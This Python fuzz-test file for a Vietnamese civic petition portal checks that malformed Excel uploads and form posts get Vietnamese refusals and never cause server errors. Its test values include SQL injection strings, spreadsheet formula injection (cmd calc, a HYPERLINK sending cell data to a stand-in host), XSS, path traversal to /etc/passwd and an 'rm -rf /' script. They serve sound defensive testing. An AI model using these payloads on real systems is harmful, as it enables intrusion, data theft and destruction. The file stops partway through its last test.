"""Thousands of malformed inputs thrown at the three doors strangers can push: the Excel
import's check, the public petition form (/gui-kien-nghi/) and the tracking form
(/tra-cuu/). Whatever comes in — wrong types, huge strings, control characters, invalid
UTF-8 inside an .xlsx, a broken zip, formula injection, right-to-left marks, emoji,
SQL-ish text, missing and extra columns or fields, forged files — the answer is never a
server error, every refusal says why in Vietnamese, and nothing is written for it.

Inputs come from a seeded random generator (`FUZZ_SEED`, printed; set it in the
environment to explore other inputs) and from hypothesis strategies. Each test prints how
many inputs it threw and asserts its share of the ≥ 3,000 in total."""

from __future__ import annotations

import io
import os
import random
import re
import string
import time
import unicodedata
import uuid
import zipfile
from collections import Counter
from datetime import date
from html import unescape
from urllib.parse import quote_from_bytes

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from dialogue.core.models import AuditEntry
from dialogue.petitions import excel
from dialogue.petitions.models import Channel, ImportBatch, ImportStatus, Petition, PetitionFile
from dialogue.petitions.public import normalise_tracking_code
from dialogue.portal import views_citizen
from dialogue.reminders.models import OutboundMessage
from tests import test_portal_citizen
from tests.test_portal_citizen import CONTENT, fresh_form
from tests.test_properties import assert_vietnamese_row_error, template_pattern, vi

place = test_portal_citizen.place

SEED = int(os.environ.get("FUZZ_SEED", "20260601"))
TODAY = date(2026, 6, 1)
HEADER = [c.header for c in excel.COLUMNS]

# How many inputs each surface gets; together at least MIN_TOTAL.
EXCEL_RANDOM = 1700
EXCEL_HYPOTHESIS = 150
EXCEL_PIPELINE = 60
SUBMIT = 500
TRACK = 700
MIN_TOTAL = 3000
assert EXCEL_RANDOM + EXCEL_HYPOTHESIS + EXCEL_PIPELINE + SUBMIT + TRACK >= MIN_TOTAL

# ---------------------------------------------------------------- nasty values

NASTY = [
    "",
    " ",
    "\t\r\n",
    "\x00",
    "Nội dung\x00 có ký tự rỗng",
    "\x07\x08\x0b\x0c\x1b[31m",
    "\u202eRTL override: ngược chiều\u202c",
    "\u200f\u200e\u200b\u2060\ufeff",
    "😀🇻🇳👍🏽" * 20,
    "𝔇𝔬𝔦 𝔱𝔥𝔬𝔞𝔦",
    "'; DROP TABLE petitions_petition; --",
    '" OR 1=1 --',
    "1'); DELETE FROM core_auditentry; --",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://ke-xau.example/?x="&A1,"Bấm vào")',
    "+SUM(1,2)",
    "@SUM(A1:A2)",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert('xss')</script>",
    "{{ 7*7 }}{% debug %}",
    "%s%s%n%x",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\cmd.exe",
    "\ufffd\ufffd",
    "null",
    "None",
    "NaN",
    "1e309",
    "-0",
    "0x1F",
    "٣٤٥",  # Arabic-Indic digits
    "０９１２３４５６７８",  # full-width
    "a" + "\u0301" * 400,  # one letter under a pile of accents
    "Đường liên thôn Nà Đon xuống cấp nghiêm trọng, đề nghị sửa chữa.",
    unicodedata.normalize("NFD", "Đề nghị sửa chữa cầu tràn thôn Nà Đon."),
    "x" * 5001,
    "Đ" * 300,
    "𠀀" * 100,  # outside the basic plane
]
PHONES = [
    "0912 345 678",
    "+84 912 345 678",
    "0912345678",
    "0123",
    "0912345678; 0987654321",
    "+1 202 555 0100",
    "SĐT: 0912.345.678",
    "(0208) 3855 123",
    "0912 abc 678",
    "99999999999999999999999999",
]


def nasty_text(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.55:
        return rng.choice(NASTY)
    if roll < 0.7:
        return rng.choice(PHONES)
    if roll < 0.85:
        return "".join(rng.choice(NASTY) for _ in range(rng.randint(2, 4)))
    # Random code points, control characters and marks included (never lone surrogates,
    # which no client can encode).
    size = rng.randint(1, 80)
    return "".join(chr(rng.choice([rng.randint(0, 0x7F), rng.randint(0x80, 0x2FFF), rng.randint(0xE000, 0x10FFFF)]))
                   for _ in range(size))  # fmt: skip


VIETNAMESE = re.compile(r"[ăâđêôơưàáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵ]")
# Django's own English messages, should one ever slip through untranslated.
ENGLISH = re.compile(
    r"This field|Enter a valid|Ensure this|Bad Request|Not Found|Server Error|characters\b|is required|"
    r"Upload a valid|No file was submitted|Select a valid|Null characters",
    re.IGNORECASE,
)


def assert_vietnamese(message: str, context: str = "") -> None:
    text = " ".join(unescape(re.sub(r"<[^>]+>", " ", message)).split())
    assert text, f"an empty message {context}"
    assert VIETNAMESE.search(text.lower()), f"not Vietnamese: {text[:300]!r} {context}"
    assert not ENGLISH.search(text), f"English left in: {text[:300]!r} {context}"


class Clock:
    """Wall and processor time of a run (the processor time says more on a busy machine)."""

    def __init__(self):
        self.wall, self.cpu = time.monotonic(), time.process_time()

    def __str__(self) -> str:
        return f"{time.monotonic() - self.wall:.1f} s, CPU {time.process_time() - self.cpu:.1f} s"


def report(capsys, label: str, counts: Counter, clock: Clock | None = None) -> None:
    with capsys.disabled():
        total = sum(counts.values())
        detail = ", ".join(f"{k} {v}" for k, v in sorted(counts.items()))
        took = f" in {clock}" if clock else ""
        print(f"\n[fuzz seed {SEED}] {label}: {total} inputs{took} ({detail})")


# ---------------------------------------------------------------- .xlsx made by hand

_CT = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
    b'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType='
    b'"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    b'<sheet name="%s" sheetId="1" state="%s" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    b"</Relationships>"
)


def _letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def xml_text(value: str, *, clean: bool = False) -> bytes:
    """Text escaped for XML; `clean` drops what XML 1.0 cannot carry (else it stays, and
    the file is one no parser reads)."""
    if clean:
        value = _NOT_XML.sub("", value)
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode("utf-8", "surrogatepass")


def raw_xlsx(
    rows: list[list[bytes]],
    *,
    shared: list[bytes] = (),
    sheet_name: bytes = b"Danh s\xc3\xa1ch",
    state: bytes = b"visible",
    dimension: bytes = b"",
    sheet_xml: bytes | None = None,
    tail: bytes = b"",
) -> bytes:
    """An .xlsx whose sheet XML is written byte for byte: each cell is given as the bytes
    inside its <c>, so a test can put anything there (invalid UTF-8 included)."""
    if sheet_xml is None:
        body = []
        for r, cells in enumerate(rows, start=1):
            body.append(b'<row r="%d">' % r)
            for c, cell in enumerate(cells):
                body.append(b'<c r="%s%d"%s</c>' % (_letter(c).encode(), r, cell))
            body.append(b"</row>")
        dim = b'<dimension ref="%s"/>' % dimension if dimension else b""
        sheet_xml = (
            b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main">' + dim + b"<sheetData>" + b"".join(body) + tail + b"</sheetData></worksheet>"
        )
    sst = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main">' + b"".join(b"<si><t>" + s + b"</t></si>" for s in shared) + b"</sst>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CT)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK % (sheet_name, state))
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        archive.writestr("xl/sharedStrings.xml", sst)
    return buffer.getvalue()


def inline(value: bytes) -> bytes:
    return b' t="inlineStr"><is><t xml:space="preserve">' + value + b"</t></is>"


HEADER_BYTES = [inline(xml_text(h)) for h in HEADER]


def random_cell(rng: random.Random, n_shared: int, mode: str) -> bytes:
    """One cell: in a "clean" file only what Excel itself writes (text of any script,
    numbers, booleans, error values, formulas, empty cells); a "types" file adds values
    that contradict their declared type; a "bytes" file adds bytes no XML parser takes."""
    kind = rng.random()
    if mode == "bytes" and kind < 0.15:
        if kind < 0.1:  # control characters and invalid UTF-8 written raw into the XML
            junk = bytes(rng.randint(0, 255) for _ in range(rng.randint(1, 12)))
            return inline(b"abc" + junk + b"def")
        return inline(b"&#%d;" % rng.choice([0, 1, 7, 8, 11, 27, 0xFFFE, 0xD800, 0x110000]))
    if mode == "types" and kind < 0.15:
        return rng.choice(
            [
                b' t="s"><v>%d</v>' % rng.choice([n_shared, -1, 10**9]),  # no such shared string
                b' t="n"><v>%s</v>' % rng.choice([b"abc", b"NaN", b"1,5", b""]),
                b' t="b"><v>%s</v>' % rng.choice([b"yes", b"2", b""]),
                b' t="d"><v>%s</v>' % rng.choice([b"31/02/2026", b"not a date", b"9999-99-99"]),
                b' s="999"><v>%d</v>' % rng.randint(-(10**6), 10**6),  # a style that does not exist
            ]
        )
    kind = rng.random()
    if kind < 0.6:
        return inline(xml_text(nasty_text(rng), clean=True))
    if kind < 0.67 and n_shared:
        return b' t="s"><v>%d</v>' % rng.randrange(n_shared)
    if kind < 0.75:
        return b' t="n"><v>%s</v>' % rng.choice([b"1e308", b"-0", b"912345678", b"46000", b"0.5", b"-46000"])
    if kind < 0.8:
        return b' t="b"><v>%s</v>' % rng.choice([b"1", b"0"])
    if kind < 0.85:
        return b' t="e"><v>%s</v>' % rng.choice([b"#DIV/0!", b"#REF!", b"#N/A", b"#NAME?"])
    if kind < 0.92:  # a formula with or without a cached value: never evaluated
        cached = rng.choice([b"", "<v>Đề nghị sửa chữa đường liên thôn Nà Đon</v>".encode()])
        return b" t=\"str\"><f>cmd|' /C calc'!A0</f>" + cached
    if kind < 0.95:
        return b' t="d"><v>2026-05-15T00:00:00</v>'
    return b">"  # an empty cell


def random_header(rng: random.Random, mode: str) -> list[bytes]:
    header = list(HEADER_BYTES)
    roll = rng.random()
    if roll < 0.15:
        header = [h for h in header if rng.random() < 0.6]  # columns missing (maybe the content)
    elif roll < 0.3:
        header += [inline(xml_text(nasty_text(rng), clean=mode != "bytes")) for _ in range(rng.randint(1, 5))]  # extra
    elif roll < 0.4:
        header += rng.sample(header, 2)  # repeated columns
    elif roll < 0.5:
        rng.shuffle(header)
    elif roll < 0.55:
        header = [inline(xml_text(nasty_text(rng), clean=True)) for _ in range(rng.randint(0, 6))]  # none known
    return header


# Mostly the template's sheet; then the guide (skipped), another name, a name that is not UTF-8.
SHEET_NAMES = ["Danh sách".encode()] * 5 + ["Hướng dẫn".encode(), b"Sheet1", b"\xff\xfe"]


def random_sheet_file(rng: random.Random) -> bytes:
    mode = rng.choices(["clean", "types", "bytes"], weights=[6, 2, 2])[0]
    shared = [xml_text(nasty_text(rng), clean=mode != "bytes") for _ in range(rng.randint(0, 5))]
    rows: list[list[bytes]] = []
    for _ in range(rng.randint(0, 3)):  # titles above the header
        title = rng.choice(["DANH SÁCH Ý KIẾN, KIẾN NGHỊ", nasty_text(rng)])
        rows.append([inline(xml_text(title, clean=True))])
    rows.append(random_header(rng, mode))
    width = len(rows[-1]) + rng.randint(-2, 3)
    for _ in range(rng.randint(0, 15)):
        rows.append([random_cell(rng, len(shared), mode) for _ in range(max(0, width + rng.randint(-3, 3)))])
    return raw_xlsx(
        rows,
        shared=shared,
        sheet_name=rng.choice(
            [b"Danh s\xc3\xa1ch"] * 5 + [b"H\xc6\xb0\xe1\xbb\x9bng d\xe1\xba\xabn", b"Sheet1", b"\xff\xfe"]
        ),
        state=rng.choice([b"visible"] * 18 + [b"hidden", b"veryHidden"]),
        dimension=rng.choice([b""] * 4 + [b"A1:B2", b"A1:XFD1048576", b"garbage"]),
    )


def openpyxl_file(rng: random.Random) -> bytes:
    book = Workbook()
    sheet = book.active
    illegal = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # openpyxl refuses to write them
    sheet.append(HEADER if rng.random() < 0.8 else [illegal.sub("", nasty_text(rng)) for _ in range(4)])
    for _ in range(rng.randint(0, 20)):
        row = []
        for _column in HEADER:
            roll = rng.random()
            if roll < 0.6:
                row.append(illegal.sub("", nasty_text(rng)))
            elif roll < 0.7:
                row.append(rng.choice([None, True, False, 0, -1, 3.5, 1e15, 912345678, 46000]))
            elif roll < 0.8:
                row.append(date(rng.randint(1901, 2099), rng.randint(1, 12), rng.randint(1, 28)))
            else:
                row.append(CONTENT if rng.random() < 0.5 else None)
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def broken_zip(rng: random.Random, good: bytes) -> bytes:
    roll = rng.random()
    if roll < 0.3:
        return good[: rng.randint(0, len(good) - 1)]  # cut off
    if roll < 0.6:
        data = bytearray(good)
        for _ in range(rng.randint(1, 40)):
            data[rng.randrange(len(data))] = rng.randrange(256)  # bytes flipped
        return bytes(data)
    if roll < 0.65:
        return future_zip("xl/workbook.xml")
    if roll < 0.75:  # a zip that is no workbook
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for n in range(rng.randint(0, 3)):
                archive.writestr(f"word/document{n}.xml", nasty_text(rng).encode("utf-8", "surrogatepass"))
        return buffer.getvalue()
    if roll < 0.85:  # a workbook whose sheet XML is cut in the middle
        sheet = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        sheet += b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>N\xe1\xbb\x99i dung'
        return raw_xlsx([], sheet_xml=sheet[: rng.randint(10, len(sheet))])
    return b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(rng.randint(0, 400)))


def other_files(rng: random.Random) -> bytes:
    return rng.choice(
        [
            b"",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200,  # an old .xls
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 50,
            b"MZ\x90\x00\x03" + bytes(300),  # a program
            b"%PDF-1.4\n%%EOF\n",
            "STT,Họ và tên,Nội dung ý kiến, kiến nghị\n1,An,Đề nghị\n".encode(),  # CSV renamed .xlsx
            b"<html><body>=cmd|' /C calc'!A0</body></html>",
            bytes(rng.randrange(256) for _ in range(rng.randint(1, 2000))),
        ]
    )


def ods_file() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def excel_inputs(rng: random.Random, count: int):
    good = openpyxl_file(random.Random(1))
    makers = [
        (0.40, random_sheet_file),
        (0.20, openpyxl_file),
        (0.25, lambda r: broken_zip(r, good)),
        (0.13, other_files),
        (0.02, lambda r: ods_file()),
    ]
    weights = [w for w, _ in makers]
    for _ in range(count):
        _weight, maker = rng.choices(makers, weights=weights)[0]
        yield maker(rng)


def file_messages() -> set[str]:
    with translation.override("vi"):
        fixed = {
            str(m)
            for m in (
                excel.MSG_EMPTY_FILE,
                excel.MSG_NOT_XLSX,
                excel.MSG_OLD_XLS,
                excel.MSG_ODS,
                excel.MSG_ENCRYPTED,
                excel.MSG_TOO_BIG,
                excel.MSG_DAMAGED,
            )
        }
        fixed.add(excel.MSG_NO_HEADER.format(rows=excel.HEADER_SEARCH_ROWS))
        fixed.add(excel.MSG_TOO_MANY_ROWS.format(limit="20.000"))
    return fixed


WARNINGS = [template_pattern(m) for m in (excel.MSG_UNKNOWN_COLUMN, excel.MSG_REPEATED_COLUMN, excel.MSG_NO_ROWS)]


def check_parse(data: bytes, known_file_errors: set[str]) -> str:
    """Parse one file; assert what the person would read; say how it ended."""
    with translation.override("vi"):
        result = excel.parse_workbook(data, today=TODAY)
    for message in result.file_errors:
        assert message in known_file_errors, message
    assert not (result.file_errors and result.rows)
    for warning in result.warnings:
        assert any(p.match(warning) for p in WARNINGS), warning
    for row in result.rows:
        for message in row.errors:
            assert_vietnamese_row_error(row.row_number, message)
    if result.file_errors:
        return "file refused"
    if result.invalid_rows:
        return "rows refused"
    return "readable" if result.rows else "no rows"


def test_thousands_of_malformed_excel_files_get_a_vietnamese_report_never_an_exception(capsys):
    rng = random.Random(SEED)
    known = file_messages()
    counts: Counter = Counter()
    clock = Clock()
    for data in excel_inputs(rng, EXCEL_RANDOM):
        counts[check_parse(data, known)] += 1
    report(capsys, "Excel check, seeded", counts, clock)
    assert sum(counts.values()) == EXCEL_RANDOM
    # The generator reaches every outcome, or it is not testing much.
    assert {"file refused", "rows refused"} <= set(counts)


_XML_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)  # what XML may carry
_ANY_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)  # control characters too
_CELL = st.one_of(_XML_TEXT, _XML_TEXT, _XML_TEXT, st.sampled_from(NASTY), _ANY_TEXT, st.binary(max_size=10))


def test_any_text_or_bytes_in_any_column_under_any_header_is_reported_in_vietnamese(capsys):
    known = file_messages()
    seen: Counter = Counter()

    @settings(max_examples=EXCEL_HYPOTHESIS, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(
        header=st.lists(st.one_of(st.sampled_from(HEADER), _XML_TEXT), max_size=10),
        content_at=st.integers(min_value=0, max_value=10),
        rows=st.lists(st.lists(_CELL, max_size=12), max_size=8),
    )
    def check(header, content_at, rows):
        header = list(header)
        if content_at < 9:  # most files have the one required column somewhere
            header.insert(min(content_at, len(header)), "Nội dung ý kiến, kiến nghị")
        cells = [[inline(xml_text(h)) for h in header]]
        for row in rows:
            cells.append([inline(v if isinstance(v, bytes) else xml_text(v)) for v in row])
        seen[check_parse(raw_xlsx(cells), known)] += 1

    clock = Clock()
    check()
    report(capsys, "Excel check, hypothesis", seen, clock)
    assert sum(seen.values()) >= EXCEL_HYPOTHESIS


def test_a_tiny_file_claiming_a_million_rows_gives_a_report_not_a_million_rows():
    # Its speed (about 4 s) belongs to benchmarks, not to a time limit on a shared CI machine.
    last = '<row r="1048576"><c r="F1048576" t="inlineStr"><is><t>Đề nghị sửa đường thôn</t></is></c></row>'
    data = raw_xlsx([HEADER_BYTES], dimension=b"A1:XFD1048576", tail=last.encode())
    result = excel.parse_workbook(data, today=TODAY)
    assert result.file_errors or len(result.rows) <= 1


MESSAGES = re.compile(r'<p class="message message--error">(.*?)</p>', re.S)


@pytest.mark.django_db
def test_malformed_files_uploaded_for_import_are_refused_in_vietnamese_and_write_nothing(cast, login, capsys):
    """Through the pages, as a person does it: upload (the worker checks at once in tests),
    read the report, ask to import the whole file."""
    rng = random.Random(SEED + 1)
    counts: Counter = Counter()
    known = file_messages()
    client = login(cast.province_officer)
    clock = Clock()
    for number, data in enumerate(excel_inputs(rng, EXCEL_PIPELINE)):
        context = f"input {number} (seed {SEED})"
        name = rng.choice(
            ["danh-sach.xlsx", "../../x.xlsx", "a\x00b\x1b.xlsx", "ảnh.png", nasty_text(rng)[:200] or "x"]
        )
        upload = SimpleUploadedFile(name or "x", data)
        batches = ImportBatch.objects.count()
        response = client.post(
            "/petitions/import/",
            {"receiving_unit": cast.tree.tinh_uy.pk, "channel": Channel.MTTQ, "file": upload},
        )
        assert response.status_code in (200, 302), context
        if response.status_code == 200:  # refused by the form itself (an empty file)
            _check_refusal(response, context)
            assert ImportBatch.objects.count() == batches, context
            counts["refused by the form"] += 1
            continue
        batch = ImportBatch.objects.get(pk=int(response["Location"].rstrip("/").rsplit("/", 1)[-1]))
        assert batch.status in (ImportStatus.FAILED, ImportStatus.CHECKED), context
        page = client.get(response["Location"])
        assert page.status_code == 200, context
        for message in batch.report.get("file_errors", []):
            assert message in known, context
        for row in batch.report.get("rows", []):
            for message in row["errors"]:
                assert_vietnamese_row_error(row["row"], message)
        refused = client.post(f"/petitions/import/{batch.pk}/start/", {"mode": "all"}, follow=True)
        assert refused.status_code == 200, context
        batch.refresh_from_db()
        if batch.status == ImportStatus.DONE:  # a file that happened to be fully valid
            counts["imported (valid file)"] += 1
            continue
        shown = MESSAGES.findall(refused.content.decode())
        assert shown, f"no message: {context}"
        for message in shown:
            assert_vietnamese(message, context)
        counts["file refused" if batch.report.get("file_errors") else "rows refused"] += 1
        assert not Petition.objects.filter(import_batch=batch).exists(), context
    assert not AuditEntry.objects.filter(action="petition.import").exists() or counts["imported (valid file)"]
    report(capsys, "Excel import through its pages (upload → check → start refused)", counts, clock)
    assert sum(counts.values()) == EXCEL_PIPELINE
    assert counts["file refused"] and counts["rows refused"]


# ---------------------------------------------------------------- the public form

SUBMIT_URL = "/gui-kien-nghi/"
DONE_URL = "/gui-kien-nghi/da-gui/"
TRACK_URL = "/tra-cuu/"
FIELDS = ["name", "phone", "address", "email", "content", "consent", "identity_protected", "notify_by", "website"]


def future_zip(member: str = "word/document.xml") -> bytes:
    """A .docx/.xlsx whose directory asks for a zip version no reader supports (Python's
    zipfile raises NotImplementedError, not BadZipFile)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(member, "<w:document/>")
    data = bytearray(buffer.getvalue())
    central = data.index(b"PK\x01\x02")
    data[central + 6 : central + 8] = (100).to_bytes(2, "little")  # “version needed to extract” 10.0
    return bytes(data)


def _file(rng: random.Random) -> SimpleUploadedFile:
    names = [
        "don.pdf",
        "bien-ban.docx",
        "../../../etc/passwd.pdf",
        "..\\..\\boot.ini.docx",
        "a\x00b\x1b[31m.png",
        "\u202egpj.exe",
        "😀.jpg",
        "x" * 300 + ".pdf",
        "con.pdf",
        "ảnh hiện trường.jpg",
        "",
    ]
    bodies = [
        b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n",  # a real PDF (accepted)
        b"\x89PNG\r\n\x1a\n" + bytes(100),  # a real PNG
        b"<html><body><script>alert(1)</script></body></html>",  # HTML named .docx
        b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(200)),  # a broken zip named .pdf
        b"MZ\x90\x00\x03" + bytes(400),  # a program
        b"",  # empty
        b"#!/bin/sh\nrm -rf /\n",
        bytes(rng.randrange(256) for _ in range(rng.randint(1, 3000))),
        future_zip(),
    ]
    return SimpleUploadedFile(rng.choice(names) or "x", rng.choice(bodies), content_type=rng.choice(
        ["application/pdf", "text/html", "application/octet-stream", "image/png", ""]))  # fmt: skip


def _valid_fields(rng: random.Random) -> dict:
    return {
        "name": rng.choice(["Nguyễn Thị Lan", "Lò Văn Páo", "H'Hen Niê"]),
        "phone": f"09{rng.randint(0, 99_999_999):08d}",
        "address": "xóm Nà Đon, xã Cao Minh",
        "email": "",
        "content": CONTENT + f" Lần {rng.randint(1, 10**9)}.",
        "consent": "on",
        "notify_by": "",
        "website": "",
    }


def submission(rng: random.Random, key: str) -> dict:
    """One POST: a valid form with 0 to 4 things broken."""
    data: dict = {"submission_key": key, **_valid_fields(rng)}
    files: list = []
    for _ in range(rng.choice([0, 1, 1, 2, 2, 3, 4])):
        what = rng.random()
        field = rng.choice([*FIELDS, "submission_key"])
        if what < 0.45:
            data[field] = nasty_text(rng)
        elif what < 0.55:
            data.pop(field, None)
        elif what < 0.65:
            data[field] = [nasty_text(rng), nasty_text(rng)]  # a list where one value is expected
        elif what < 0.7:
            data[field] = "".join(rng.choice(string.printable) for _ in range(rng.choice([250, 5001, 40_000])))
        elif what < 0.75:
            data[f"extra_{rng.randint(0, 99)}"] = nasty_text(rng)
        elif what < 0.78:
            data["submission_key"] = rng.choice(["", "not-a-uuid", "0" * 32, str(uuid.UUID(int=0)), "'; --"])
        elif what < 0.8:
            data["notify_by"] = rng.choice(["sms", "email", "fax", "SMS", "1"])
        else:
            files = [_file(rng) for _ in range(rng.randint(1, 5))]
    if files:
        data["files"] = files
    return data


FORM_ALERT = re.compile(r'<div class="form-errors" role="alert"(?: id="form-alert")?>(.*?)</div>', re.S)
FIELD_ERRORS = re.compile(r'<div class="field__error"[^>]*>(.*?)</div>', re.S)
STAFF_FIELD_ERROR = re.compile(r'<p class="field__error" role="alert">(.*?)</p>', re.S)  # templates/_field.html


def _refusal_messages(body: str) -> list[str]:
    """What a refused form says: the alert at the top (the summary line aside) and each
    field's own message."""
    messages = []
    for block in FORM_ALERT.findall(body):
        block = re.sub(r"<strong>.*?</strong>", "", block, flags=re.S)
        messages += [m for m in re.findall(r"<(?:p|li)>(.*?)</(?:p|li)>", block, re.S) if m.strip()]
    for block in FIELD_ERRORS.findall(body):
        messages += [m for m in re.findall(r"<p>(.*?)</p>", block, re.S) if m.strip()]
    messages += [m for m in STAFF_FIELD_ERROR.findall(body) if m.strip()]
    return messages


def _written() -> tuple[int, int, int, int]:
    return (
        Petition.objects.count(),
        PetitionFile.objects.count(),
        AuditEntry.objects.filter(action="petition.submit_public").count(),
        OutboundMessage.objects.count(),
    )


@pytest.fixture
def open_doors(settings):
    """Rate limits out of the way, so that every input reaches the checks behind them."""
    settings.PORTAL_SUBMIT_PER_IP_HOUR = 10**9
    settings.PORTAL_SUBMIT_PER_PHONE_DAY = 10**9
    settings.PORTAL_TRACK_PER_IP_HOUR = 10**9
    settings.PORTAL_TRACK_PER_CODE_HOUR = 10**9
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"


def _raw_posts(rng: random.Random, url: str) -> tuple[bytes, str]:
    """A body no browser sends: invalid UTF-8, broken escapes, a broken multipart body."""
    roll = rng.random()
    if roll < 0.4:
        junk = bytes(rng.randrange(256) for _ in range(rng.randint(1, 60)))
        body = b"name=" + quote_from_bytes(junk).encode() + b"&phone=%FF%FE%00&content=" + junk.replace(b"&", b"")
        return body + b"&consent=on&submission_key=%s" % str(uuid.uuid4()).encode(), "application/x-www-form-urlencoded"
    if roll < 0.6:
        return b"name=%%%&phone=%G0&&&==&content=%E1%BB", "application/x-www-form-urlencoded"
    if roll < 0.8:
        return b'--xyz\r\nContent-Disposition: form-data; name="name"\r\n\r\n' + bytes(
            rng.randrange(256) for _ in range(50)
        ), "multipart/form-data; boundary=xyz"
    return bytes(rng.randrange(256) for _ in range(200)), rng.choice(
        ["multipart/form-data", "application/json", "text/plain; charset=utf-16", "multipart/form-data; boundary="]
    )


def _check_refusal(response, context: str) -> None:
    body = response.content.decode("utf-8", "replace")
    if response.status_code in (400, 404):
        # The error pages: Vietnamese, and never the form's data echoed.
        assert_vietnamese(re.sub(r"(?s)<head>.*?</head>", "", body), context)
        return
    messages = _refusal_messages(body)
    assert messages, f"a refusal without a message: {context}\n{body[:3000]}"
    for message in messages:
        assert_vietnamese(message, context)


@pytest.mark.django_db
def test_hundreds_of_malformed_petitions_sent_to_the_public_form_are_refused_in_vietnamese(place, open_doors, capsys):
    rng = random.Random(SEED + 2)
    client = Client()
    url = f"{SUBMIT_URL}?hoi-nghi={place.conference.pk}"
    counts: Counter = Counter()
    clock = Clock()
    for number in range(SUBMIT):
        before = _written()
        key = str(uuid.uuid4())
        roll = rng.random()
        target = url
        if roll < 0.05:
            target = f"{SUBMIT_URL}?hoi-nghi={rng.choice(['abc', '-1', '9' * 30, '1 OR 1=1', '', '٣', '0x1'])}"
        elif roll < 0.08:
            target = f"{SUBMIT_URL}?don-vi={rng.choice(['abc', '9' * 25, str(place.tree.village.pk), ''])}"
        context = f"input {number} (seed {SEED})"
        data = None
        if roll > 0.93:
            body, content_type = _raw_posts(rng, target)
            response = client.generic("POST", target, body, content_type=content_type)
        else:
            data = submission(rng, key)
            resent = _key_known(data.get("submission_key"))
            response = client.post(target, data)
        context += f": {data!r:.400}"
        assert response.status_code != 500, context
        after = _written()
        if response.status_code == 302 and response["Location"] == DONE_URL:
            created = after[0] - before[0]
            if _is_robot(data):
                assert after == before, context
                counts["answered as accepted (honeypot filled)"] += 1
            elif resent:
                assert after == before, context
                counts["answered with the petition already sent"] += 1
            else:
                assert created == 1, context
                counts["accepted"] += 1
            continue
        body = response.content.decode("utf-8", "replace")
        if response.status_code == 200 and 'name="q"' in body and 'name="submission_key"' not in body:
            assert after == before, context  # no readable target: the page to choose one
            counts["asked where to send it"] += 1
            continue
